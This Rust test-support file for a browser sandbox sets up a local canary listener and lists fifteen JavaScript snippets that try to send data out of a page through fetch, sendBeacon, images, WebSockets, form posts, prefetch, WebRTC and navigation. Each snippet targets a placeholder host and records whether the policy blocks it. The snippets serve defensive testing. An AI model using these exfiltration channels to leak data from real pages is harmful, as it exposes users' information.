//! The listener at which every way out of the browser ends, and the browser's log of its network.

use serde_json::Value;
use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

/// What is written down, a line each, by several threads.
pub(super) type Lines = Arc<Mutex<Vec<String>>>;

/// A way out that is tried on purpose.
pub(super) struct Way {
    pub(super) name: &'static str,
    /// Goes to the host `HOST`, or to the canary's own port for datagrams, `UDP`.
    pub(super) script: &'static str,
    /// What the canary sees where no policy stands in the way.
    pub(super) open: Seen,
    /// What it still sees under ours.
    pub(super) ours: Seen,
}

/// How much of a way out the canary sees.
#[derive(Clone, Copy, Debug, PartialEq)]
pub(super) enum Seen {
    Nothing,
    /// A name was looked up: that stands in the browser's log of its network.
    LookUp,
    /// Somebody connected, and said nothing.
    Connection,
    /// Something was asked or told: it could have been an answer.
    Request,
    /// The same without a connection.
    Datagram,
}
use Seen::{Connection, Datagram, LookUp, Nothing, Request};

/// SECURITY.md says the same in words.
pub(super) const WAYS: [Way; 15] = [
    Way {
        name: "fetch",
        script: "fetch('http://HOST/').catch(() => {});",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "beacon",
        script: "navigator.sendBeacon('http://HOST/', 'answers');",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "image",
        script: "new Image().src = 'http://HOST/';",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "style",
        script: "const link = document.createElement('link');
            link.rel = 'stylesheet'; link.href = 'http://HOST/'; document.head.append(link);",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "socket",
        script: "new WebSocket('ws://HOST/');",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "events",
        script: "new EventSource('http://HOST/');",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "frame",
        script: "const frame = document.createElement('iframe');
            frame.src = 'http://HOST/'; document.body.append(frame);",
        open: Request,
        ours: Connection,
    },
    Way {
        name: "ping",
        script: "const link = document.createElement('a');
            link.href = location.pathname; link.target = 'ping'; link.ping = 'http://HOST/'; document.body.append(link); link.click();",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "form",
        script: "const form = document.createElement('form');
            form.action = 'http://HOST/'; form.method = 'post'; form.target = 'form';
            document.body.append(form); form.submit();",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "prefetch",
        script: "const link = document.createElement('link');
            link.rel = 'prefetch'; link.href = 'http://HOST/'; document.head.append(link);",
        open: Request,
        ours: Nothing,
    },
    Way {
        name: "preconnect",
        script: "const link = document.createElement('link');
            link.rel = 'preconnect'; link.href = 'http://HOST/'; document.head.append(link);",
        open: Connection,
        ours: Connection,
    },
    Way {
        name: "look-up",
        script: "const link = document.createElement('link');
            link.rel = 'dns-prefetch'; link.href = 'http://HOST/'; document.head.append(link);",
        open: LookUp,
        ours: LookUp,
    },
    Way {
        name: "webrtc",
        script: "const line = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }] });
            line.createDataChannel('answers');
            line.createOffer().then((offer) => line.setLocalDescription(offer));",
        open: Datagram,
        ours: Datagram,
    },
    Way {
        name: "window",
        script: "open('http://HOST/');",
        open: Request,
        ours: Request,
    },
    Way {
        name: "navigation",
        script: "location.href = 'http://HOST/';",
        open: Request,
        ours: Request,
    },
];

/// What this browser asks its maker by itself, whichever page is open: none of it is the page's.
pub(super) const THE_BROWSERS_OWN: [&str; 8] = [
    "accounts.google.com",
    "android.clients.google.com",
    "clients2.google.com",
    "content-autofill.googleapis.com",
    "mtalk.google.com",
    "optimizationguide-pa.googleapis.com",
    "update.googleapis.com",
    "www.google.com",
];

/// Whatever is not meant for the server of the page ends here, whichever name or address it has.
pub(super) struct Canary {
    /// What was seen, by the name of the way: connections and datagrams.
    seen: Lines,
    rules: String,
    /// Where a name ends that is only looked up.
    pub(super) look_ups: String,
    pub(super) datagrams: String,
    pub(super) folder: PathBuf,
}

impl Canary {
    pub(super) fn start(name: &str) -> Canary {
        let seen = Lines::default();
        let mut rules = Vec::new();
        let mut look_ups = String::new();
        for way in &WAYS {
            let end = format!("127.0.0.1:{}", listen(way.name, &seen));
            rules.push(format!("MAP {} {end}", host(way.name, "*")));
            if way.name == "look-up" {
                look_ups = end;
            }
        }
        rules.extend(THE_BROWSERS_OWN.map(|name| format!("MAP {name} ^NOTFOUND")));
        rules.push(format!("MAP * 127.0.0.1:{}", listen("anything", &seen)));
        rules.push("EXCLUDE 127.0.0.1".to_owned());
        rules.push("EXCLUDE localhost".to_owned());
        let socket = UdpSocket::bind("127.0.0.1:0").expect("a port");
        let datagrams = socket.local_addr().expect("an address").to_string();
        let heard = Arc::clone(&seen);
        std::thread::spawn(move || {
            while socket.recv_from(&mut [0; 2048]).is_ok() {
                note(&heard, &trace("webrtc", Datagram));
            }
        });
        let folder = format!("tweeluik-canary-{name}-{}", std::process::id());
        let folder = std::env::temp_dir().join(folder);
        std::fs::create_dir_all(&folder).expect("a folder");
        Canary {
            seen,
            rules: rules.join(", "),
            look_ups,
            datagrams,
            folder,
        }
    }

    /// What a browser is started with so that it cannot pass. `log` names the log of its network.
    pub(super) fn arguments(&self, log: &str) -> Vec<String> {
        vec![
            format!("--host-resolver-rules={}", self.rules),
            format!("--log-net-log={}", self.folder.join(log).display()),
            // Else a datagram to this machine is not sent at all.
            "--allow-loopback-in-peer-connection".to_owned(),
            // What the browser would ask by itself.
            "--disable-default-apps".to_owned(),
            "--disable-domain-reliability".to_owned(),
        ]
    }

    pub(super) fn seen(&self) -> Vec<String> {
        self.seen.lock().expect("the list").clone()
    }

    /// After its browser has ended: the names that it looked up and where it sent datagrams.
    pub(super) fn log(&self, log: &str) -> NetworkLog {
        NetworkLog::read(&self.folder.join(log))
    }
}

impl Drop for Canary {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.folder);
    }
}

/// The host at which a way is tried, from one of two pages.
pub(super) fn host(way: &str, page: &str) -> String {
    format!("{page}.{way}.canary.example")
}

/// How the canary notes what it sees.
pub(super) fn trace(way: &str, seen: Seen) -> String {
    format!("{way}: {seen:?}")
}

pub(super) fn note(list: &Lines, line: &str) {
    list.lock().expect("the list").push(line.to_owned());
}

/// Takes every connection, notes it, and answers what is asked with nothing. Gives the port.
fn listen(name: &'static str, seen: &Lines) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let seen = Arc::clone(seen);
    std::thread::spawn(move || {
        for mut line in listener.incoming().flatten() {
            let seen = Arc::clone(&seen);
            note(&seen, &trace(name, Connection));
            std::thread::spawn(move || {
                let mut said = [0; 512];
                let length = line.read(&mut said).unwrap_or(0);
                if length > 0 {
                    note(&seen, &trace(name, Request));
                    println!("{name}: {}", String::from_utf8_lossy(&said[..length]));
                }
                let _ = line.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
            });
        }
    });
    port
}

/// What a browser writes about its network.
pub(super) struct NetworkLog {
    pub(super) looked_up: Vec<String>,
    pub(super) connected: Vec<String>,
    pub(super) datagrams: Vec<Value>,
}

impl NetworkLog {
    fn read(path: &Path) -> NetworkLog {
        let text = std::fs::read_to_string(path).expect("the log of the network");
        let mut lines = text.lines();
        // An entry a line, and first what its numbers mean.
        let constants = lines.next().unwrap_or_default().trim_end_matches(',');
        let constants: Value = serde_json::from_str(&format!("{constants}}}")).expect("numbers");
        let kind = |name: &str| {
            let kind = &constants["constants"]["logEventTypes"][name];
            assert!(kind.is_number(), "{name} is no kind of entry");
            kind.clone()
        };
        let entries: Vec<Value> = lines
            .filter_map(|line| serde_json::from_str(line.trim_end_matches(',')).ok())
            .collect();
        assert!(entries.len() > 10, "the log has entries");
        let all = |name: &str, part: &str| {
            let kind = kind(name);
            let mut found: Vec<String> = entries
                .iter()
                .filter(|entry| entry["type"] == kind)
                .filter_map(|entry| Some(entry["params"][part].as_str()?.to_owned()))
                .collect();
            found.sort();
            found.dedup();
            found
        };
        let sent = kind("UDP_BYTES_SENT");
        NetworkLog {
            looked_up: all("HOST_RESOLVER_MANAGER_REQUEST", "host"),
            connected: all("TCP_CONNECT_ATTEMPT", "address"),
            datagrams: entries
                .iter()
                .filter(|entry| entry["type"] == sent)
                .cloned()
                .collect(),
        }
    }
}
